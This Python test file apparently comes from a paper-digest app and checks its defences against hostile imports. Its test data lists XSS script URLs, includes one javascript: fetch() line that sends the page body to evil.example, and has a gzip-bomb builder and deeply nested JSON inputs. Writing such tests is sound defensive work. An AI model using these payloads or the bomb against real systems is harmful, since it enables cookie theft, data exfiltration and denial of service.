"""Hostile paper files (issue 17, items 1 and 9): script URLs never become links, entity-encoded
markup never reaches a header or the text part, every bad line is reported and every good one
kept, and memory stays bounded whatever the file holds (a gzip bomb included)."""

import datetime as dt
import gzip
import io
import json
import tracemalloc
import zlib

import pytest
from sqlmodel import Session, select

from digest import delivery, paperstore, subscribers
from digest.mailer import FileMailer
from digest.models import Paper
from digest.papers import (
    MAX_LINE_BYTES,
    BadLine,
    PaperIn,
    clean_text,
    read_lines,
    read_papers,
    safe_url,
)
from digest.render import DigestContext, DigestEntry, Envelope, render_digest
from digest.web import create_app
from tests.factories import NOW, make_paper
from tests.test_send import outbox_messages

DAY = NOW.date()
SCRIPT_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(document.cookie)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "/papers/relative",
    "https:alert(1)",
]


def paper_line(**fields):
    data = {
        "id": "2606.00001",
        "title": "Diffusion models for everything",
        "abstract": "Diffusion models improved.",
        "authors": ["Ada Lovelace"],
        "published": (NOW - dt.timedelta(days=1)).isoformat(),
        "url": "https://arxiv.org/abs/2606.00001",
    }
    data.update(fields)
    return json.dumps(data)


def import_bytes(session, data: bytes, *, gz: bool = False, batch_size: int = 2000):
    stream = gzip.GzipFile(fileobj=io.BytesIO(data)) if gz else io.BytesIO(data)
    return paperstore.import_papers(
        session=session, lines=read_lines(stream), now=NOW, batch_size=batch_size
    )


def html_part(message):
    return message.get_body(("html",)).get_content()


def text_part(message):
    return message.get_body(("plain",)).get_content()


# --- item 1: only http(s) links -------------------------------------------------------------


@pytest.mark.parametrize("url", SCRIPT_URLS)
def test_only_absolute_http_urls_are_safe(url):
    assert safe_url(url) is None
    assert safe_url("https://arxiv.org/abs/2606.00001") == "https://arxiv.org/abs/2606.00001"
    assert safe_url("HTTP://example.org/a?b=c&d=e") == "HTTP://example.org/a?b=c&d=e"
    # At the store's door: the paper is kept, its link is not.
    paper = PaperIn.model_validate({"title": "A paper", "url": url})
    assert (paper.title, paper.url) == ("A paper", None)


def test_an_imported_script_url_is_dropped_and_never_becomes_an_href(engine, db_settings):
    lines = "\n".join(
        [
            paper_line(id="2606.00001", url="javascript:alert(1)"),
            paper_line(id="2606.00002", title="Diffusion models, the safe one"),
        ]
    ).encode()
    with Session(engine) as session:
        report = import_bytes(session, lines)
        subscribers.add_subscriber(
            session=session, email="a@example.com", topics=["diffusion models"], now=NOW
        )
        delivery.send_due_digests(
            session=session,
            mailer=FileMailer(db_settings.outbox_dir),
            settings=db_settings,
            now=NOW,
            digest_date=DAY,
        )
        stored = session.exec(select(Paper)).all()
    # The paper is kept without its link; the digest links to its page on our site instead.
    assert report.new == 2 and report.bad_lines == []
    assert {p.id: p.url for p in stored} == {
        "2606.00001": None,
        "2606.00002": "https://arxiv.org/abs/2606.00001",
    }
    (message,) = outbox_messages(db_settings)
    assert "javascript:" not in message.as_string().lower()
    html = html_part(message)
    assert 'href="https://digest.test/papers/2606.00001"' in html
    assert 'href="https://arxiv.org/abs/2606.00001"' in html


def digest_context(url: str) -> DigestContext:
    entry = DigestEntry(
        paper_id="2606.00001",
        title="A paper with a hostile link",
        authors="Ada Lovelace",
        summary="Summary.",
        url=url,
        why="matches 'diffusion models'",
        like_url="https://digest.test/feedback/t/up",
        dislike_url="https://digest.test/feedback/t/down",
    )
    return DigestContext(
        recipient="a@example.com",
        digest_date=DAY,
        entries=[entry],
        web_url="https://digest.test/digest/t",
        preferences_url="https://digest.test/preferences/t",
        unsubscribe_url="https://digest.test/unsubscribe/t",
        unsubscribe_mailto="mailto:unsubscribe@digest.test?subject=t",
        base_url="https://digest.test",
        from_name="Paper digest",
    )


@pytest.mark.parametrize("url", SCRIPT_URLS)
def test_rendering_a_script_url_that_bypassed_the_store_makes_no_link(settings, url):
    envelope = Envelope("Paper digest", "digest@digest.test", "a@example.com", "<m@x>", NOW)
    message = render_digest(settings.templates_dir, digest_context(url), envelope).message()
    html, text = html_part(message), text_part(message)
    assert "A paper with a hostile link" in html
    for part in (html, text):
        assert "script:" not in part.lower() and "data:" not in part
    # Every link left is one of ours.
    hrefs = [chunk.split('"', 1)[0] for chunk in html.split('href="')[1:]]
    assert hrefs and all(h.startswith("https://digest.test/") for h in hrefs)


def test_the_paper_page_of_a_stored_script_url_has_no_link_to_it(engine, db_settings):
    with Session(engine) as session:
        paperstore.upsert_papers(session=session, now=NOW, papers=[make_paper(id="2606.00077")])
        # As an older store or a careless source would have kept it.
        paper = session.get(Paper, "2606.00077")
        paper.url = "javascript:fetch('//evil.example/?'+document.body.innerHTML)"
        session.add(paper)
        session.commit()
    app = create_app(db_settings, engine=engine, mailer=FileMailer(db_settings.outbox_dir))
    page = app.test_client().get("/papers/2606.00077")
    assert page.status_code == 200
    body = page.get_data(as_text=True)
    assert "javascript:" not in body and "Read the paper" not in body


# --- item 9: markup in entities -------------------------------------------------------------


def test_entity_encoded_markup_is_removed_like_markup():
    assert clean_text("&lt;script&gt;alert(1)&lt;/script&gt; Diffusion") == "alert(1) Diffusion"
    assert clean_text("<b>Bold</b> &amp; plain") == "Bold & plain"
    paper = PaperIn.model_validate(
        {"title": "&lt;script&gt;x&lt;/script&gt;Title", "abstract": "&lt;img src=x&gt;A"}
    )
    assert "<" not in paper.title + paper.abstract


def test_entity_encoded_markup_reaches_neither_the_subject_nor_the_text_part(engine, db_settings):
    line = paper_line(
        title="&lt;script&gt;alert(1)&lt;/script&gt;Diffusion models &lt;b&gt;win&lt;/b&gt;",
        abstract="Diffusion models &lt;iframe src=//evil.example&gt; improved.",
    )
    with Session(engine) as session:
        import_bytes(session, line.encode())
        subscribers.add_subscriber(
            session=session, email="a@example.com", topics=["diffusion models"], now=NOW
        )
        delivery.send_due_digests(
            session=session,
            mailer=FileMailer(db_settings.outbox_dir),
            settings=db_settings,
            now=NOW,
            digest_date=DAY,
        )
    (message,) = outbox_messages(db_settings)
    assert "Diffusion models win" in str(message["Subject"])
    for where in (str(message["Subject"]), text_part(message)):
        assert "<" not in where and "&lt;" not in where


# --- item 9: bad lines reported, good ones kept ---------------------------------------------


def test_every_bad_line_is_reported_and_every_good_line_kept(engine):
    good = [paper_line(id=f"2606.{n:05d}", title=f"Good paper {n}") for n in range(1, 5)]
    bad = {
        2: b'{"title": "caf\xe9 latin-1"}',
        4: b"[" * 100_000 + b"]" * 100_000,
        5: b'{"title": "deep", "authors": ' + b"[" * 5000 + b"]" * 5000 + b"}",
        7: paper_line(title="Big", abstract="x" * 30_000).encode(),
        9: b"x" * (MAX_LINE_BYTES + 10),
        10: paper_line(authors=5).encode(),
        11: paper_line(categories=[{"a": 1}]).encode(),
        12: paper_line(upvotes="many").encode(),
        13: paper_line(title=["a", "list"]).encode(),
        14: paper_line(published={"year": 2026}).encode(),
        15: b"\xff\xfe{}",
    }
    lines, good_iter = [], iter(good)
    for number in range(1, 16):
        lines.append(bad[number] if number in bad else next(good_iter).encode())
    data = b"\n".join(lines) + b"\n"
    with Session(engine) as session:
        # A small batch: a bad line in the middle of a batch must not lose it.
        report = import_bytes(session, data, batch_size=3)
        stored = sorted(session.exec(select(Paper.id)).all())
    assert stored == [f"2606.{n:05d}" for n in range(1, 5)]
    assert report.new == 4
    errors = {b.line_number: b.error for b in report.bad_lines}
    assert sorted(errors) == sorted(bad)
    assert "not valid UTF-8" in errors[2] and "not valid UTF-8" in errors[15]
    assert "nested too deeply" in errors[4] and "nested too deeply" in errors[5]
    assert errors[7].startswith("abstract:") and "20000 characters" in errors[7]
    assert "over the limit of 1,000,000" in errors[9]
    assert errors[10].startswith("authors:")
    assert errors[11].startswith("categories:")
    assert errors[12].startswith("upvotes:")
    assert errors[13].startswith("title:")
    assert errors[14].startswith("published:")


def test_text_lines_are_still_read_and_capped():
    items = list(read_papers([paper_line(), "x" * (MAX_LINE_BYTES + 1), "", "{broken"]))
    assert isinstance(items[0], PaperIn)
    assert [(i.line_number, i.error[:8]) for i in items[1:]] == [(2, "line is "), (4, "Expectin")]
    assert all(isinstance(i, BadLine) for i in items[1:])


def gzip_bomb(line_bytes: int) -> bytes:
    """A gzip file: a good line, one line of `line_bytes` spaces, a good line; small on disk."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = [compressor.compress(paper_line(id="2606.00001").encode() + b"\n")]
    block = b" " * (1 << 20)
    for _ in range(line_bytes // len(block)):
        out.append(compressor.compress(block))
    out.append(compressor.compress(b"\n" + paper_line(id="2606.00002").encode() + b"\n"))
    out.append(compressor.flush())
    return b"".join(out)


def test_a_gzip_bomb_line_is_reported_without_being_held_in_memory(engine):
    bomb = gzip_bomb(200 << 20)
    assert len(bomb) < 1 << 20  # 200 MB of one line in under 1 MB of gzip
    tracemalloc.start()
    try:
        with Session(engine) as session:
            report = import_bytes(session, bomb, gz=True)
            stored = sorted(session.exec(select(Paper.id)).all())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert stored == ["2606.00001", "2606.00002"]
    assert [(b.line_number, b.error.split(",")[0]) for b in report.bad_lines] == [
        (2, "line is 209")
    ]
    assert "over the limit" in report.bad_lines[0].error
    # The line is 200 MB; what the import held at its peak is a few line caps at most.
    assert peak < 20 * MAX_LINE_BYTES, f"peak {peak / 1e6:.1f} MB"


@pytest.mark.integration
def test_papers_import_command_reports_bad_lines_of_a_gzip_bomb_and_keeps_the_good_ones(tmp_path):
    from tests.test_cli import run

    good = [paper_line(id=f"2606.{n:05d}", title=f"Good paper {n}") for n in range(1, 4)]
    body = (
        good[0].encode()
        + b"\n"
        + b'{"title": "caf\xe9"}\n'
        + b"[" * 50_000
        + b"\n"
        + good[1].encode()
        + b"\n"
    )
    (tmp_path / "papers.jsonl").write_bytes(body + good[2].encode() + b"\n")
    result = run(["papers", "import", "papers.jsonl"], cwd=tmp_path)
    assert "3 new, 0 updated, 0 unchanged, 2 bad lines" in result.stdout
    assert "line 2: not valid UTF-8" in result.stderr
    assert "line 3: JSON nested too deeply" in result.stderr

    (tmp_path / "bomb.jsonl.gz").write_bytes(gzip_bomb(200 << 20))
    result = run(["papers", "import", "bomb.jsonl.gz"], cwd=tmp_path)
    assert "0 new, 0 updated, 2 unchanged, 1 bad lines" in result.stdout
    assert "line 2: line is 209,715,201 bytes, over the limit" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_run_together_author_list_is_cut_like_a_long_title_not_refused():
    # As in the real 75k corpus (2506.02197): a whole author list in one name.
    names = "and ".join(f"Author Number{n}" for n in range(100))
    paper = PaperIn.model_validate({"title": "A paper", "authors": ["Ada", names]})
    assert paper.authors[0] == "Ada" and len(paper.authors[1]) == 500
